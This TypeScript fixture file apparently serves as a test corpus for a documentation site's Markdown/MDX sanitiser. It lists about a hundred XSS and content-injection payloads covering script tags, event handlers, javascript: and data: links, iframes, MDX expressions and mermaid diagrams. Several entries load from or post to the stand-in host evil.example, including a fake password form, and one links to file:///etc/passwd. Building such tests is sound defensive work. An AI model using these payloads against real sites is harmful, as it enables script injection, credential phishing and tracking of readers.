/**
 * Texts that try to run code in a reader's browser or to load embedded content, one for each technique of known lists
 * (for example OWASP's on filter evasion), in our own words. Each one that runs calls `alert`.
 */
export interface Attack {
  /** What it tries. */
  name: string;
  text: string;
  /** `stopped`: no page may contain it. `text`: it is not markup on a page; readers see the characters. */
  onPage: 'stopped' | 'text';
}

const encode = (text: string): string => Buffer.from(text).toString('base64');

/** Markup or code in pages, by what it tries. */
const stopped: Record<string, string> = {
  // Script elements
  'a script': '<script>alert(1)</script>',
  'a script in capitals': '<SCRIPT>alert(1)</SCRIPT>',
  'a script from elsewhere': '<script src="https://evil.example/a.js"></script>',
  'a script from elsewhere, without protocol': '<script src=//evil.example/a.js></script>',
  'a script as a module': '<script type="module">alert(1)</script>',
  'a script in parts': '<scr<script>ipt>alert(1)</scr</script>ipt>',
  'a script after the end of one': '</script><script>alert(1)</script>',
  'a script after the end of the title': '</title><script>alert(1)</script>',
  'a script after the end of a text area': '</textarea><script>alert(1)</script>',
  'a script after the end of a style': '</style><script>alert(1)</script>',
  'a script after the end of an attribute': '"><script>alert(1)</script>',
  'a script after the end of an attribute in single quotes': "'><script>alert(1)</script>",
  'a script with a slash in its name': '<script/x>alert(1)</script>',
  'a script with a line end in its name': '<script\n>alert(1)</script>',
  'a script in a comment that ends early': '<!--><script>alert(1)</script>-->',
  'a script in character data': '<![CDATA[<script>alert(1)</script>]]>',
  'a script in a paragraph': 'Read <script>alert(1)</script> on.',
  'a script in a table': '| a | b |\n| - | - |\n| <script>alert(1)</script> | c |',
  'a script in a list': '- one\n- <script>alert(1)</script>',
  'a script in a note': ':::note\n\n<script>alert(1)</script>\n\n:::',
  'a script in the title of a note': ':::note[<script>alert(1)</script>]\n\nText.\n\n:::',
  'a script in a footnote': 'Text.[^1]\n\n[^1]: <script>alert(1)</script>',
  'a script in the head': '<head><script>alert(1)</script></head>',
  'a script in the component for the head': '<Head><script>alert(1)</script></Head>',
  // Event handlers
  'an image that fails': '<img src="x" onerror="alert(1)" />',
  'an image that fails, after the end of an attribute': '"><img src=x onerror=alert(1)>',
  'an image that fails, with slashes for spaces': '<img/src=x/onerror=alert(1)>',
  'an image that fails, with a back quote': '<img src=`x` onerror=alert(1)>',
  'an image that fails, as encoded text': '<img src=x onerror="&#97;lert(1)">',
  'an image that fails, as MDX': '<img src="x" onError={() => alert(1)} />',
  'a drawing that loads': '<svg onload="alert(1)" />',
  'a drawing that loads, with a slash': '<svg/onload=alert(1)>',
  'a drawing that moves': '<svg><animate onbegin="alert(1)" attributeName="x" dur="1s" /></svg>',
  'a body that loads': '<body onload="alert(1)">',
  'a field in focus': '<input autoFocus onFocus={() => alert(1)} />',
  'a folded text that opens': '<details open ontoggle="alert(1)"><summary>Text</summary></details>',
  'a video without source': '<video><source onerror="alert(1)" /></video>',
  'a sound without source': '<audio src="x" onerror="alert(1)" />',
  'a text that runs through': '<marquee onstart="alert(1)">Text</marquee>',
  'a text under the pointer': '<b onmouseover="alert(1)">Text</b>',
  'an element of its own': '<x-note onclick="alert(1)">Text</x-note>',
  'a component with a handler': '<Video id="abcdefghijk" title="A" onLoad={() => alert(1)} />',
  'a style that ends an animation': '<p style="animation: x" onanimationend="alert(1)">Text</p>',
  'an attribute of a note': ':::note{onclick="alert(1)"}\n\nText.\n\n:::',
  // Addresses
  'a link that is a script': '[Text](javascript:alert%281%29)',
  'a link that is a script, in mixed case': '[Text](JaVaScRiPt:alert%281%29)',
  'a link that is a script, encoded': '[Text](&#106;avascript:alert%281%29)',
  'a link that is a script, with a tab in it': '[Text](java&Tab;script:alert%281%29)',
  'a link that is a script, with a line end in it': '[Text](java&NewLine;script:alert%281%29)',
  'a link that is a script, below the text': '[Text][1]\n\n[1]: javascript:alert%281%29',
  'a link that is a script, as HTML': '<a href="javascript:alert(1)">Text</a>',
  'a link that is a script, as MDX': "<a href={'javascript:' + 'alert(1)'}>Text</a>",
  'a link that is a script, in angle brackets': '<javascript:alert(1)>',
  'a link that is a Visual Basic script': '[Text](vbscript:alert%281%29)',
  'a link that is a page': '[Text](data:text/html,<script>alert%281%29</script>)',
  'a link that is a page, encoded': `[Text](data:text/html;base64,${encode('<script>alert(1)</script>')})`,
  'a link that is a file of the reader': '[Text](file:///etc/passwd)',
  'an image that is a script': '![Text](javascript:alert%281%29)',
  'an image from elsewhere': '![Text](https://evil.example/count.png)',
  'an image from elsewhere, without protocol': '![Text](//evil.example/count.png)',
  'an image from elsewhere, below the text': '![Text][1]\n\n[1]: https://evil.example/count.png',
  'an image from elsewhere, in a footnote': 'Text.[^1]\n\n[^1]: ![Text]\n\n[text]: //evil.example/count.png',
  'a script in the source of a chart':
    '```chart\nform: bars\ntitle: A\nsentence: B\nsource: "[C](/docs/intro) [D](javascript:alert%281%29)"\nx: D\ny: E\ndata: |\n  D,E\n  1,a\n  2,b\n```',
  'an image that is a drawing with a script': `![Text](data:image/svg+xml;base64,${encode('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')})`,
  'a drawing that links to a script': '<svg><a xlinkHref="javascript:alert(1)"><text>Text</text></a></svg>',
  'a drawing that uses another': '<svg><use href="data:image/svg+xml,x#a" /></svg>',
  'a formula that links to a script': '<math href="javascript:alert(1)">Text</math>',
  'a form that sends to a script': '<form action="javascript:alert(1)"><button>Text</button></form>',
  'a button that sends to a script': '<form><button formaction="javascript:alert(1)">Text</button></form>',
  // Diagrams, formulas, and code
  'a diagram with an image from elsewhere': '```mermaid\nflowchart LR\n  a@{ img: "https://evil.example/a.png" }\n```',
  'a diagram that links elsewhere': '```mermaid\nflowchart LR\n  a\n  click a href "https://evil.example/"\n```',
  'a formula that covers the page':
    '[$\\smash{\\rlap{\\hspace{-3000px}\\raisebox{-3000px}{\\rule{9000px}{9000px}}}}$](https://evil.example/)',
  'a range of lines that fills the memory': '```js {1-999999999}\nalert(1)\n```',
  // Foreign content
  'a frame from elsewhere': '<iframe src="https://evil.example/"></iframe>',
  'a frame that is a script': '<iframe src="javascript:alert(1)"></iframe>',
  'a frame with its own text': '<iframe srcDoc="&lt;script>alert(1)&lt;/script>"></iframe>',
  'an object from elsewhere': '<object data="https://evil.example/a.swf"></object>',
  'an object that is a page': '<object data="data:text/html,&lt;script>alert(1)&lt;/script>"></object>',
  'an embedded file': '<embed src="https://evil.example/a.swf" />',
  'a page that moves on': '<meta httpEquiv="refresh" content="0;url=javascript:alert(1)" />',
  'a base for all links': '<base href="https://evil.example/" />',
  'a style sheet from elsewhere': '<link rel="stylesheet" href="https://evil.example/a.css" />',
  'a style element': '<style>@import "https://evil.example/a.css";</style>',
  'a text that changes when it is read twice':
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>',
  'a template': '<template><img src="x" onerror="alert(1)" /></template>',
  // Code of MDX
  'an expression': '{alert(1)}',
  'an expression in a sentence': 'The sum is {alert(1)}.',
  'an expression that calls itself': "{(() => { globalThis.alert(1); return 'Text'; })()}",
  'an expression that makes a function': "{[].constructor.constructor('alert(1)')()}",
  'an import': "import x from 'https://evil.example/a.js';",
  'an import of a file of the site': "import fs from '@site/package.json';",
  'an export': 'export const x = alert(1);',
  'markup set by a component': "<div dangerouslySetInnerHTML={{__html: '<img src=x onerror=alert(1)>'}} />",
  'markup spread into a component': "<div {...{dangerouslySetInnerHTML: {__html: '<img src=x onerror=alert(1)>'}}} />",
  'code in an attribute of a component': '<Video id={alert(1)} title="A" />',
  'code spread into a component': '<Video {...globalThis} />',
};

/**
 * Texts that look like an attack but are not markup in Markdown; they must stay text. The rules about diagrams refuse some,
 * too; a build without these rules shows what browsers make of them.
 */
const text: Record<string, string> = {
  'an expression in the source of a chart':
    '```chart\nform: bars\ntitle: A\nsentence: B\nsource: "[C](/docs/intro) {alert(1)}"\nx: D\ny: E\ndata: |\n  D,E\n  1,a\n  2,b\n```',
  'a script as code': '`<script>alert(1)</script>`',
  'a script in a block of code': '```html\n<script>alert(1)</script>\n```',
  'a script in the title of a block of code': '```html title="</script><script>alert(1)</script>"\nText\n```',
  'a script with signs escaped': '\\<script>alert(1)\\</script>',
  'a script with signs encoded': '&lt;script&gt;alert(1)&lt;/script&gt;',
  'a script with numbers for signs': '&#60;script&#62;alert(1)&#60;/script&#62;',
  'a script with wide signs': '＜script＞alert(1)＜/script＞',
  'a script in an old encoding': '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  'an attribute that ends early': '![Text](/img/logo.svg "a\\" onerror=\\"alert(1)")',
  'a link whose title ends early': '[Text](/docs/intro "a\\" onclick=\\"alert(1)")',
  'a link that is a script, after a sign that Markdown replaces': '[Text](&#1;javascript:alert%281%29)',
  'a heading whose anchor ends early': '## Text" onclick="alert(1)',
  'a formula of another language': '$\\{alert(1)}',
  'a diagram that links to a script':
    '```mermaid\nflowchart LR\n  a[Text] --> b\n  click a href "javascript:alert(1)"\n```',
  'a diagram that calls a function': '```mermaid\nflowchart LR\n  a[Text] --> b\n  click a call alert(1)\n```',
  'a diagram with markup in a label': '```mermaid\nflowchart LR\n  a["<img src=x onerror=alert(1)>"] --> b\n```',
  'a diagram that asks to be trusted':
    '```mermaid\n%%{init: {"securityLevel": "loose", "flowchart": {"htmlLabels": true}}}%%\nflowchart LR\n  a["<img src=x onerror=alert(1)>"] --> b\n  click a href "javascript:alert(1)"\n```',
  'a diagram with a form in a label':
    '```mermaid\nflowchart LR\n  a["<form action=\'https://evil.example/\'><input name=password><button>Log in</button></form>"] --> b\n```',
};

const list = (of: Record<string, string>, onPage: Attack['onPage']): Attack[] =>
  Object.entries(of).map(([name, one]) => ({name, text: one, onPage}));

export const attacks: readonly Attack[] = [...list(stopped, 'stopped'), ...list(text, 'text')];
